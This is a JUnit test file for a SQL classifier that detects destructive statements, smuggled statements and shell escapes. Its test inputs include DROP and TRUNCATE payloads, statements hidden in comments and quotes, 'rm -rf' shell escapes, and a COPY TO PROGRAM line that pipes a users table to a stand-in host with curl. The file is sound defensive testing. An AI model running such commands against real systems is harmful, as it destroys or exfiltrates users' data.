package dev.interlock.policy.sql;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.interlock.policy.TextOrigin;
import java.util.EnumSet;
import java.util.List;
import java.util.Set;
import java.util.stream.Collectors;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.Arguments;
import org.junit.jupiter.params.provider.MethodSource;
import org.junit.jupiter.api.Test;

class SqlClassifierTest {

    static List<SqlSubject> classify(SqlClassifier c, String sql, SqlDialect d) {
        return c.classify(sql, d, TextOrigin.whole("body", sql), "");
    }

    static Set<String> kinds(SqlClassifier c, String sql, SqlDialect d) {
        return classify(c, sql, d).stream().flatMap(s -> s.kinds().stream()).map(SqlKind::id)
                .collect(Collectors.toCollection(java.util.TreeSet::new));
    }

    static Set<String> set(String... ids) {
        return new java.util.TreeSet<>(List.of(ids));
    }

    static List<Arguments> cases() {
        return List.of(
                // drop
                Arguments.of("DROP TABLE users", set("drop")),
                Arguments.of("drop table if exists public.users cascade;", set("drop")),
                Arguments.of("DROP DATABASE prod", set("drop", "drop-database")),
                Arguments.of("DROP SCHEMA app CASCADE", set("drop")),
                Arguments.of("DROP INDEX CONCURRENTLY idx_a", set("drop")),
                Arguments.of("DROP MATERIALIZED VIEW mv", set("drop")),
                Arguments.of("CREATE TABLE t (id int)", set()),
                Arguments.of("SELECT 'DROP TABLE users'", set()),
                Arguments.of("SELECT 1 -- DROP TABLE users", set()),
                Arguments.of("SELECT 1 /* DROP TABLE users; */", set()),
                Arguments.of("SELECT \"drop table x\" FROM t", set()),
                Arguments.of("SELECT $$ DROP TABLE users; $$", set()),
                Arguments.of("SELECT $tag$ ; DROP TABLE users; $tag$", set()),
                // truncate
                Arguments.of("TRUNCATE users", set("truncate")),
                Arguments.of("TRUNCATE TABLE ONLY a, b RESTART IDENTITY", set("truncate")),
                // delete / update
                Arguments.of("DELETE FROM users", set("delete-without-where")),
                Arguments.of("DELETE FROM users WHERE 1=1", set("delete-without-where")),
                Arguments.of("DELETE FROM users WHERE true", set("delete-without-where")),
                Arguments.of("DELETE FROM users WHERE id = 3 OR 1=1", set("delete-without-where")),
                Arguments.of("DELETE FROM users WHERE (1 = 1)", set("delete-without-where")),
                Arguments.of("DELETE FROM users WHERE 'a' = 'a'", set("delete-without-where")),
                Arguments.of("DELETE FROM users WHERE id = id", set("delete-without-where")),
                Arguments.of("DELETE FROM users WHERE name LIKE '%'", set("delete-without-where")),
                Arguments.of("DELETE FROM users WHERE id = 3", set()),
                Arguments.of("DELETE FROM users WHERE id = 3 AND 1=1", set()),
                Arguments.of("DELETE FROM users WHERE 1=0", set()),
                Arguments.of("DELETE FROM users WHERE id IN (SELECT id FROM old)", set()),
                Arguments.of("UPDATE users SET admin = true", set("update-without-where")),
                Arguments.of("UPDATE users SET admin = true WHERE 1", set("update-without-where")),
                Arguments.of("UPDATE users SET x = (SELECT y FROM z WHERE z.id = 1)", set("update-without-where")),
                Arguments.of("UPDATE users SET admin = true WHERE id = 7", set()),
                Arguments.of("DELETE FROM t WHERE CURRENT OF c", set()),
                // a condition that reads no column and cannot be evaluated counts as always true
                Arguments.of("DELETE FROM t WHERE random() < 2", set("delete-without-where")),
                Arguments.of("DELETE FROM t WHERE now() > '2000-01-01'", set("delete-without-where")),
                Arguments.of("DELETE FROM t WHERE 2 * 3 = 6", set("delete-without-where")),
                Arguments.of("DELETE FROM t WHERE active", set()),
                Arguments.of("DELETE FROM t WHERE lower(name) = 'bob'", set()),
                // alter
                Arguments.of("ALTER TABLE users DROP COLUMN email", set("alter-drop")),
                Arguments.of("ALTER TABLE users DROP CONSTRAINT users_pkey", set("alter-drop")),
                Arguments.of("ALTER TABLE users ADD COLUMN x int, DROP COLUMN y", set("alter-drop")),
                Arguments.of("ALTER TABLE users ALTER COLUMN email DROP NOT NULL", set()),
                Arguments.of("ALTER TABLE users ALTER COLUMN email DROP DEFAULT", set()),
                Arguments.of("ALTER TABLE users ADD COLUMN dropped boolean", set()),
                Arguments.of("ALTER TABLE events DROP PARTITION p2020", set("alter-drop")),
                // grant / revoke
                Arguments.of("GRANT ALL ON users TO public", set("grant")),
                Arguments.of("REVOKE SELECT ON users FROM app", set("revoke")),
                // cte
                Arguments.of("WITH gone AS (DELETE FROM users WHERE id > 5 RETURNING *) SELECT count(*) FROM gone",
                        set("write-in-cte")),
                Arguments.of("WITH gone AS (DELETE FROM users RETURNING *) SELECT * FROM gone",
                        set("write-in-cte", "delete-without-where")),
                Arguments.of("WITH x AS (SELECT 1) SELECT * FROM x", set()),
                Arguments.of("WITH x AS (SELECT id FROM old) DELETE FROM users", set("delete-without-where")),
                // explain
                Arguments.of("EXPLAIN ANALYZE DELETE FROM users WHERE id = 1", set("explain-analyze-write")),
                Arguments.of("EXPLAIN ANALYZE DELETE FROM users", set("explain-analyze-write", "delete-without-where")),
                Arguments.of("EXPLAIN (ANALYZE, BUFFERS) UPDATE users SET a = 1 WHERE id = 2", set("explain-analyze-write")),
                Arguments.of("EXPLAIN (ANALYZE false) DELETE FROM users", set()),
                Arguments.of("EXPLAIN DELETE FROM users", set()),
                Arguments.of("EXPLAIN ANALYZE SELECT * FROM users", set()),
                // read-only and meta
                Arguments.of("SELECT * FROM users", set()),
                Arguments.of("SHOW TABLES", set()),
                Arguments.of("\\d users", set()),
                Arguments.of("\\c prod\nSELECT 1;", set()),
                Arguments.of("\\c prod\nDROP TABLE users;", set("drop")),
                // multi-statement
                Arguments.of("BEGIN; DELETE FROM a WHERE id=1; DROP TABLE b; COMMIT;", set("drop")),
                Arguments.of("SELECT 1; TRUNCATE logs", set("truncate")),
                Arguments.of("SELECT 'it''s; DROP TABLE x'; SELECT 2", set()),
                // bodies that run
                Arguments.of("DO $$ BEGIN DROP TABLE users; END $$;", set("drop")),
                Arguments.of("DO $$ BEGIN EXECUTE 'TRUNCATE ' || 'logs'; END $$", set("truncate")),
                Arguments.of("CREATE FUNCTION f() RETURNS void AS $$ DROP TABLE users $$ LANGUAGE sql", set()),
                Arguments.of("SELECT format('DROP TABLE %I', tablename) FROM pg_tables \\gexec", set("drop")),
                Arguments.of("PREPARE s FROM 'DROP TABLE users'", set("drop")),
                Arguments.of("CALL log_event('DROP TABLE requested')", set()),
                // the client or the server runs a shell command
                Arguments.of("\\! rm -rf /tmp/x", set("shell-escape")),
                Arguments.of("COPY users TO PROGRAM 'curl -d @- https://x.example'", set("shell-escape")),
                Arguments.of("COPY users TO '/tmp/users.csv'", set()));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void classifiesWithTheParser(String sql, Set<String> expected) {
        assertEquals(expected, kinds(SqlClassifier.standard(), sql, SqlDialect.POSTGRES));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void theTokenFallbackAgrees(String sql, Set<String> expected) {
        assertEquals(expected, kinds(SqlClassifier.tokensOnly(), sql, SqlDialect.POSTGRES));
    }

    @ParameterizedTest(name = "{0}")
    @MethodSource("cases")
    void anUnknownDialectFindsAtLeastAsMuch(String sql, Set<String> expected) {
        assertTrue(kinds(SqlClassifier.standard(), sql, SqlDialect.GENERIC).containsAll(expected));
    }

    @Test
    void theParserSettlesConstantConditionsTheTokensCannot() {
        // (1) = (2) reads no column; the token reading cannot evaluate it and fails closed, JSqlParser can
        String never = "DELETE FROM t WHERE (1) = (2)";
        assertEquals(set(), kinds(SqlClassifier.standard(), never, SqlDialect.POSTGRES));
        assertEquals(set("delete-without-where"), kinds(SqlClassifier.tokensOnly(), never, SqlDialect.POSTGRES));
        String always = "DELETE FROM t WHERE (1) = (1)";
        assertEquals(set("delete-without-where"), kinds(SqlClassifier.standard(), always, SqlDialect.POSTGRES));
        // a dialect form the parser does not know: still fails closed
        assertEquals(set("delete-without-where"),
                kinds(SqlClassifier.standard(), "DELETE FROM t WHERE $$a$$ = $$a$$ || ''", SqlDialect.POSTGRES));
    }

    @Test
    void objectKindsAndNamesAreRead() {
        SqlSubject s = classify(SqlClassifier.standard(), "drop table if exists \"Users\", public.orders", SqlDialect.POSTGRES).get(0);
        assertEquals("table", s.objectKind());
        assertEquals(List.of("Users", "public.orders"), s.objects());
        assertEquals("Users", s.target());
        SqlSubject db = classify(SqlClassifier.standard(), "DROP DATABASE IF EXISTS `shop`", SqlDialect.MYSQL).get(0);
        assertEquals("database", db.objectKind());
        assertEquals(List.of("shop"), db.objects());
        SqlSubject tr = classify(SqlClassifier.standard(), "TRUNCATE TABLE logs", SqlDialect.POSTGRES).get(0);
        assertEquals(List.of("logs"), tr.objects());
    }

    @Test
    void snowflakeTableKindsAndTruncateIfExistsAreRead() {
        SqlSubject dyn = classify(SqlClassifier.standard(), "DROP DYNAMIC TABLE IF EXISTS marts.daily", SqlDialect.GENERIC).get(0);
        assertEquals("dynamic table", dyn.objectKind());
        assertEquals(List.of("marts.daily"), dyn.objects());
        for (String kind : List.of("ICEBERG", "HYBRID", "EXTERNAL")) {
            SqlSubject s = classify(SqlClassifier.standard(), "drop " + kind + " table lake.events", SqlDialect.GENERIC).get(0);
            assertEquals(kind.toLowerCase() + " table", s.objectKind());
            assertEquals(List.of("lake.events"), s.objects());
        }
        SqlSubject stage = classify(SqlClassifier.standard(), "DROP STAGE landing", SqlDialect.GENERIC).get(0);
        assertEquals("stage", stage.objectKind());
        assertEquals(List.of("landing"), stage.objects());
        SqlSubject tr = classify(SqlClassifier.standard(), "TRUNCATE TABLE IF EXISTS raw.events", SqlDialect.GENERIC).get(0);
        assertEquals(set("truncate"), tr.kinds().stream().map(SqlKind::id).collect(Collectors.toSet()));
        assertEquals(List.of("raw.events"), tr.objects());
    }

    @Test
    void spansPointAtTheStatementInTheOriginalText() {
        String body = "SELECT 1; DROP TABLE users; SELECT 2";
        List<SqlSubject> subs = classify(SqlClassifier.standard(), body, SqlDialect.POSTGRES);
        assertEquals(3, subs.size());
        SqlSubject drop = subs.get(1);
        assertEquals("DROP TABLE users", drop.origin().all().text());
        assertEquals(10, drop.origin().all().start());
        assertTrue(subs.get(0).kinds().isEmpty());
    }

    @Test
    void mysqlReadingsCannotHideAStatement() {
        // backslash escape: in MySQL the string continues past \' and the DROP is code
        String sql = "SELECT 'it\\'s'; DROP TABLE users; -- '";
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), sql, SqlDialect.MYSQL));
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), sql, SqlDialect.GENERIC));
        // a # comment with an apostrophe
        String hash = "# don't panic\nDROP TABLE users;";
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), hash, SqlDialect.MYSQL));
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), hash, SqlDialect.GENERIC));
        // in MySQL DROP SCHEMA is DROP DATABASE
        assertEquals(set("drop", "drop-database"), kinds(SqlClassifier.standard(), "DROP SCHEMA shop", SqlDialect.MYSQL));
    }

    @Test
    void anUnclosedLiteralDoesNotSwallowTheRest() {
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "SELECT 'oops; DROP TABLE users;", SqlDialect.POSTGRES));
        // comments nest in PostgreSQL only: MySQL runs the DROP after the first */
        String nested = "SELECT 1; /* a /* b */ DROP TABLE users; */";
        assertEquals(set(), kinds(SqlClassifier.standard(), nested, SqlDialect.POSTGRES));
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), nested, SqlDialect.MYSQL));
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), nested, SqlDialect.GENERIC));
    }

    @Test
    void mysqlExecutableCommentsAreCode() {
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "SELECT 1; /*!50000 DROP TABLE users */;", SqlDialect.MYSQL));
        assertEquals(set(), kinds(SqlClassifier.standard(), "SELECT /*+ BKA(t) */ 1 FROM t", SqlDialect.MYSQL));
    }

    @Test
    void pathologicalInputIsAnsweredOrRefusedNeverHangs() {
        org.junit.jupiter.api.Assertions.assertTimeoutPreemptively(java.time.Duration.ofSeconds(30), () -> {
            // 2,000 nested parentheses: beyond the evaluator's depth, the constant condition counts as true
            String deep = "DELETE FROM t WHERE " + "(".repeat(2000) + "1=1" + ")".repeat(2000);
            assertEquals(set("delete-without-where"), kinds(SqlClassifier.standard(), deep, SqlDialect.GENERIC));
            // a 1 MB statement
            String big = "DELETE FROM t WHERE id IN (" + "1,".repeat(500_000) + "1)";
            assertEquals(set(), kinds(SqlClassifier.standard(), big, SqlDialect.GENERIC));
            // 100,000 statements: refused as too complex (the engine asks)
            String many = "SELECT 1;".repeat(100_000);
            org.junit.jupiter.api.Assertions.assertThrows(SqlTooComplexException.class,
                    () -> SqlClassifier.standard().classify(many, SqlDialect.GENERIC, TextOrigin.whole("b", many), ""));
            String nested = "EXPLAIN ANALYZE ".repeat(5_000) + "DELETE FROM t";
            org.junit.jupiter.api.Assertions.assertThrows(SqlTooComplexException.class,
                    () -> SqlClassifier.standard().classify(nested, SqlDialect.GENERIC, TextOrigin.whole("b", nested), ""));
        });
    }

    @Test
    void sqlServerBatchesAndBrackets() {
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "USE shop\nGO\nDROP TABLE [dbo].[users]\nGO", SqlDialect.MSSQL));
        assertEquals(set("delete-without-where"), kinds(SqlClassifier.standard(), "DELETE TOP (10) FROM [users]", SqlDialect.MSSQL));
    }

    @Test
    void shellEscapesOfOtherClients() {
        assertEquals(set("shell-escape"), kinds(SqlClassifier.standard(), ".shell rm -rf data", SqlDialect.SQLITE));
        assertEquals(set("shell-escape"), kinds(SqlClassifier.standard(), "system rm -rf data", SqlDialect.MYSQL));
        assertEquals(set(), kinds(SqlClassifier.standard(), ".schema users", SqlDialect.SQLITE));
    }

    @Test
    void tsqlStatementsWithoutSemicolonsAreSeparated() {
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "SELECT 1 DROP TABLE users", SqlDialect.MSSQL));
        assertEquals(set("delete-without-where"),
                kinds(SqlClassifier.standard(), "DELETE FROM a DELETE FROM b WHERE id = 1", SqlDialect.MSSQL));
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "IF OBJECT_ID('t') IS NOT NULL DROP TABLE t", SqlDialect.MSSQL));
        assertEquals(set("drop"), kinds(SqlClassifier.standard(), "EXEC sp_executesql N'DROP TABLE t'", SqlDialect.MSSQL));
        // words that continue a statement
        assertEquals(set(), kinds(SqlClassifier.standard(),
                "CREATE TABLE c (p int REFERENCES p(id) ON DELETE CASCADE ON UPDATE NO ACTION)", SqlDialect.MSSQL));
        assertEquals(set(), kinds(SqlClassifier.standard(), "SELECT * FROM t WITH (UPDLOCK) WHERE id = 1", SqlDialect.MSSQL));
        assertEquals(set(), kinds(SqlClassifier.standard(),
                "INSERT INTO t (id) VALUES (1) ON DUPLICATE KEY UPDATE n = n + 1", SqlDialect.GENERIC));
        assertEquals(set(), kinds(SqlClassifier.standard(),
                "INSERT INTO t VALUES (1) ON CONFLICT (id) DO UPDATE SET n = 2", SqlDialect.GENERIC));
        assertEquals(set(), kinds(SqlClassifier.standard(), "SELECT * FROM jobs FOR UPDATE SKIP LOCKED", SqlDialect.GENERIC));
        assertEquals(set(), kinds(SqlClassifier.standard(),
                "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", SqlDialect.MSSQL));
    }

    @Test
    void sqliteDotCommandsAreNotStatements() {
        List<SqlSubject> subs = classify(SqlClassifier.standard(), ".tables\n.schema users\nDELETE FROM users;", SqlDialect.SQLITE);
        assertEquals(3, subs.size());
        assertEquals(".tables", subs.get(0).verb());
        assertEquals(EnumSet.of(SqlKind.DELETE_WITHOUT_WHERE), subs.get(2).kinds());
    }
}
